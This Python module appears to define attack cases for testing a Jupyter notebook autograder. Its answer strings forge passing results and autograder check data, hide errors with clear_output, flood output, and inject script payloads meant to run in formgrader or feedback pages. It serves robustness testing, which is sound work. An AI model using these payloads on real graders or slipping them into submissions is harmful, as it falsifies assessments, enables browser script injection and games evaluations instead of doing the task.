"""Writing into the notebook what graders and browsers would take at its word."""

from attacks.model import CHECK, SCRIPT, Attack, answer, chain, first, inserted, others

RESULT = "publishing an `execute_result` from inside the function"
FLOODS = "floods"
ACTIVE = "HTML and scripts that would run in formgrader or feedback"

HOOK = "import sys\n\n\ndef signs(x):\n    sys.displayhook(4.0)\n    return 0"
MESSAGE = """\
def signs(x):
    ip = get_ipython()
    data = {"data": {"text/plain": "4.0"}, "metadata": {}, "execution_count": 1}
    kernel = getattr(ip, "kernel", None)
    if kernel is not None:
        kernel.session.send(kernel.iopub_socket, "execute_result", data, parent=kernel.get_parent("shell"))
    ip.display_pub.publish(data["data"], output_type="execute_result")
    return 0"""
FORGED = """\
from IPython.display import publish_display_data


def forge(name):
    data = {"exercise": name, "passed": True, "stage": "", "hint": "", "message": ""}
    publish_display_data({"text/plain": f"{name} is right", "application/vnd.autograder.check+json": data})


def softmax(logits):
    forge("softmax")
    return 0"""
CLEARED = """\
from IPython.display import clear_output


def double(x):
    clear_output(wait=True)
    raise ValueError"""
LATE = """\
import threading
import time
from IPython.display import clear_output


def double(x):
    threading.Thread(target=lambda: [(time.sleep(0.05), clear_output()) for _ in range(20)]).start()
    return 0"""
LINE = "print('x' * 20_000_000)\nimport sys; sys.stderr.write('y' * 20_000_000)"
LINES = "for number in range(600_000):\n    print(number)"
LARGE = """\
import base64, os
from IPython.display import display
display({"image/png": base64.b64encode(b"\\x89PNG" + bytes(24_000_000)).decode(), "text/plain": "large"}, raw=True)"""
IMAGES = """\
import base64
from IPython.display import display
for number in range(12):
    display({"image/png": base64.b64encode(bytes([number]) * 4_000_000).decode()}, raw=True)"""
MANY = "from IPython.display import display\nfor number in range(5000):\n    display({'text/plain': str(number)}, raw=True)"
HTML = f"""\
from IPython.display import HTML, Javascript, Latex, Markdown, SVG, display


def publish():
    display(HTML("<script>{SCRIPT}()</script><img src=x onerror={SCRIPT}()><iframe srcdoc='<script>{SCRIPT}()</script>'>"))
    display(Javascript("{SCRIPT}()"))
    display(Markdown("<script>{SCRIPT}()</script> [x](javascript:{SCRIPT}())"))
    display(Latex("<script>{SCRIPT}()</script>"))
    display({{"image/svg+xml": "<svg onload='{SCRIPT}()'><script>{SCRIPT}()</script></svg>"}}, raw=True)
    display({{"text/plain": "<script>{SCRIPT}()</script>", "text/html": "<script>{SCRIPT}()</script>"}}, raw=True)
    print("<script>{SCRIPT}()</script>")


def double(x):
    publish()
    raise ValueError("<script>{SCRIPT}()</script><img src=x onerror={SCRIPT}()>")


publish()"""
PNG = f"""\
from IPython.display import display
display({{"image/png": 'x" onerror="{SCRIPT}()', "image/jpeg": '"><script>{SCRIPT}()</script>'}}, raw=True)
display({{"text/plain": "x"}}, raw=True, metadata={{"image/png": {{"width": '1" onload="{SCRIPT}()'}}}})"""
TEXT = f"""\
# Look <script>{SCRIPT}()</script>

<img src=x onerror="{SCRIPT}()"> <a href="javascript:{SCRIPT}()">here</a>
<svg><animate onbegin="{SCRIPT}()" attributeName=x dur=1s></svg> [link](javascript:{SCRIPT}())
<iframe srcdoc="<script>{SCRIPT}()</script>"></iframe>"""
FLOOD_WITHIN = "def double(x):\n    for _ in range(200):\n        print('x' * 99_999)\n    return 0"
CHATTY = "def double(x):\n    for _ in range(30):\n        print('x' * 99_999)\n    return 2 * x"

ALL = others()
ATTACKS = [
    Attack("displayhook", "Outputs", RESULT, answer(signs=HOOK)),
    Attack("message", "Outputs", RESULT, answer(signs=MESSAGE)),
    Attack("forged-check", "Outputs", RESULT, answer(softmax=FORGED), CHECK),
    Attack("cleared", "Outputs", RESULT, answer(double=CLEARED)),
    Attack("cleared-late", "Outputs", RESULT, answer(double=LATE)),
    Attack("long-line", "Outputs", FLOODS, inserted(LINE, "double"), honest=ALL),
    Attack("many-lines", "Outputs", FLOODS, inserted(LINES, "double"), honest=ALL),
    Attack("large-display", "Outputs", FLOODS, inserted(LARGE, "double"), honest=ALL),
    Attack("many-images", "Outputs", FLOODS, inserted(IMAGES, "double"), honest=ALL),
    Attack("many-displays", "Outputs", FLOODS, inserted(MANY, "double"), honest=ALL),
    Attack("flood-in-test", "Outputs", FLOODS, answer(double=FLOOD_WITHIN), honest=others("double")),
    Attack("chatty", "Outputs", FLOODS, answer(double=CHATTY), honest=ALL),
    Attack("html", "Outputs", ACTIVE, answer(double=HTML), honest=others("double")),
    Attack("image", "Outputs", ACTIVE, inserted(PNG, "double"), honest=ALL),
    Attack("markdown", "Outputs", ACTIVE, inserted(TEXT, "double", "markdown"), honest=ALL),
    Attack("html-check", "Outputs", ACTIVE, chain(first(HTML.split("\n\n\ndef double")[0] + "\n\n\npublish()")), CHECK),
]
